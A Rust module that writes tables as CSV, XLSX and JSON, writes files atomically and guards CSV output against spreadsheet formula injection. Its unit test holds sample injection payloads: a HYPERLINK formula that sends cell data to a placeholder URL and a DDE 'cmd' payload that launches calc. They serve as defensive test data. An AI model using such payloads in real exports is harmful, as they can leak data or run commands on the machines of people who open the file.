//! Writing results: tables as CSV, XLSX and JSON, the rejects file, and the
//! human summary. Files are written to a temporary name and renamed, so a
//! reader never sees half a file; a run's files are renamed together
//! ([`staging`]), one run at a time per output folder ([`lock`]), never
//! through a link leading out of the project ([`links`]).

pub mod analysis;
pub mod control;
pub mod csv_dialect;
pub mod diff;
pub mod lock;
pub mod movements;
pub mod staging;
pub mod summary;
pub mod table;
pub mod xlsx;

use crate::ingest::Reject;
use csv_dialect::CsvDialect;
use std::io::Write;
use std::path::Path;
use table::{Table, Value};

/// Writes `bytes` to `path` (atomically, folders created) when no link on
/// the way leads outside `project`; otherwise changes nothing and says why.
pub fn write_in_project(path: &Path, project: &Path, bytes: &[u8]) -> Result<(), String> {
    let target = crate::links::resolve(path, project, &[project])?;
    write_atomically(&target, bytes).map_err(|e| format!("{}: {e}", path.display()))
}

/// Writes `bytes` to `path` atomically (temporary file in the same folder, then rename).
pub fn write_atomically(path: &Path, bytes: &[u8]) -> std::io::Result<()> {
    let dir = path.parent().filter(|p| !p.as_os_str().is_empty()).unwrap_or(Path::new("."));
    std::fs::create_dir_all(dir)?;
    let tmp = temp_path(path, None);
    let result = write_new(&tmp, bytes).and_then(|()| std::fs::rename(&tmp, path));
    if result.is_err() {
        let _ = std::fs::remove_file(&tmp);
    }
    result
}

/// The temporary name beside `path` for this process: `.NAME.PID.tmp`, or
/// `.NAME.TAG.PID.tmp`. Hidden, and recognisable as kamplan's when a killed
/// run leaves it behind ([`staging::is_stale_temporary`]).
pub fn temp_path(path: &Path, tag: Option<&str>) -> std::path::PathBuf {
    let name = path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
    let tag = tag.map(|t| format!("{t}.")).unwrap_or_default();
    path.with_file_name(format!(".{name}.{tag}{}.tmp", std::process::id()))
}

/// Writes `bytes` to a new file at `path` (its folder created), flushed to disk.
fn write_new(path: &Path, bytes: &[u8]) -> std::io::Result<()> {
    if let Some(dir) = path.parent().filter(|p| !p.as_os_str().is_empty()) {
        std::fs::create_dir_all(dir)?;
    }
    let mut file = std::fs::File::create(path)?;
    file.write_all(bytes)?;
    file.sync_all()
}

/// A text cell as written to CSV: one that a spreadsheet would run as a
/// formula (starting with `=`, `+`, `-`, `@`, a tab or a carriage return)
/// gets a leading `'`, which spreadsheets show as text. Numbers are written
/// as they are, never through this.
pub fn csv_text(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// A value as written to CSV: its plain form with the dialect's decimal
/// sign, text cells made safe.
fn csv_cell(value: &Value, dialect: CsvDialect) -> std::borrow::Cow<'_, str> {
    match value {
        Value::Text(t) => csv_text(t),
        Value::Amount(_) | Value::Ratio(_) | Value::Number(_) => {
            std::borrow::Cow::Owned(dialect.number(value.plain()))
        }
        other => std::borrow::Cow::Owned(other.plain()),
    }
}

/// The table as CSV in `dialect` (plain numbers, ISO dates, RFC 4180
/// quoting, `\n` line ends, text cells safe in spreadsheets: [`csv_text`]).
/// The column names are the same in every dialect.
pub fn table_csv(table: &Table, dialect: CsvDialect) -> Vec<u8> {
    let mut writer = dialect.writer();
    let header = table.columns.iter().map(|c| csv_text(&c.name));
    writer.write_record(header.map(|c| c.into_owned())).expect("writing to memory");
    for row in &table.rows {
        for value in row {
            writer.write_field(csv_cell(value, dialect).as_bytes()).expect("writing to memory");
        }
        writer.write_record(None::<&[u8]>).expect("writing to memory");
    }
    writer.into_inner().expect("writing to memory")
}

/// The table as a JSON array of objects, one per row, keys in column order.
pub fn table_json(table: &Table) -> String {
    let records: Vec<serde_json::Value> = table
        .rows
        .iter()
        .map(|row| {
            let mut object = serde_json::Map::new();
            for (column, value) in table.columns.iter().zip(row) {
                object.insert(column.name.clone(), json_value(value));
            }
            serde_json::Value::Object(object)
        })
        .collect();
    let mut text = serde_json::to_string_pretty(&records).expect("serialisable");
    text.push('\n');
    text
}

fn json_value(value: &Value) -> serde_json::Value {
    use serde_json::Value as J;
    let number = |x: f64| serde_json::Number::from_f64(x).map_or(J::Null, J::Number);
    match value {
        Value::Null => J::Null,
        Value::Text(t) => J::String(t.clone()),
        // Amounts have at most four decimals: the shortest float text is the exact decimal.
        Value::Amount(a) => number(a.to_f64()),
        Value::Count(n) => J::Number((*n).into()),
        Value::Ratio(x) | Value::Number(x) => {
            number(crate::locale::format::plain(*x).parse().unwrap_or(*x))
        }
        Value::Date(d) => J::String(d.to_string()),
    }
}

/// `rejects.csv`: one row per rejected line, in file and line order, with
/// file paths relative to `base` (the project folder) where they are inside it.
/// The line's content and the other texts are made safe for spreadsheets ([`csv_text`]).
pub fn rejects_csv(rejects: &[Reject], base: &Path, dialect: CsvDialect) -> Vec<u8> {
    let mut writer = dialect.writer();
    writer
        .write_record(["file", "line", "column", "field", "reason", "content"])
        .expect("writing to memory");
    for r in rejects {
        writer
            .write_record([
                csv_text(&r.file.strip_prefix(base).unwrap_or(&r.file).display().to_string())
                    .into_owned(),
                r.line.to_string(),
                r.column.map(|c| c.to_string()).unwrap_or_default(),
                csv_text(r.field.unwrap_or_default()).into_owned(),
                csv_text(&r.reason).into_owned(),
                csv_text(&r.content).into_owned(),
            ])
            .expect("writing to memory");
    }
    writer.into_inner().expect("writing to memory")
}

#[cfg(test)]
mod tests {
    use super::*;
    use table::ColumnKind;

    #[test]
    fn text_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_are_not() {
        let table = Table {
            columns: table::columns(&[("name", ColumnKind::Text), ("margin", ColumnKind::Money)]),
            rows: vec![
                vec![
                    Value::Text("=HYPERLINK(\"http://x\"&A1,\"click\")".into()),
                    Value::Amount(crate::model::Amount::parse_plain("-12.50").unwrap()),
                ],
                vec![Value::Text("+cmd|' /C calc'!A0".into()), Value::Number(-1.5)],
                vec![Value::Text("-2".into()), Value::Null],
                vec![Value::Text("@SUM(A1)".into()), Value::Count(3)],
                vec![Value::Text("\tx".into()), Value::Null],
                vec![Value::Text("Rossi = Figli".into()), Value::Null],
            ],
        };
        let text = String::from_utf8(table_csv(&table, CsvDialect::STANDARD)).unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<Vec<String>> =
            reader.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect();
        assert_eq!(rows[0], ["'=HYPERLINK(\"http://x\"&A1,\"click\")", "-12.50"]);
        assert_eq!(rows[1], ["'+cmd|' /C calc'!A0", "-1.5"]);
        assert_eq!(rows[2], ["'-2", ""]);
        assert_eq!(rows[3], ["'@SUM(A1)", "3"]);
        assert_eq!(rows[4], ["'\tx", ""]);
        assert_eq!(rows[5], ["Rossi = Figli", ""]);
    }
}
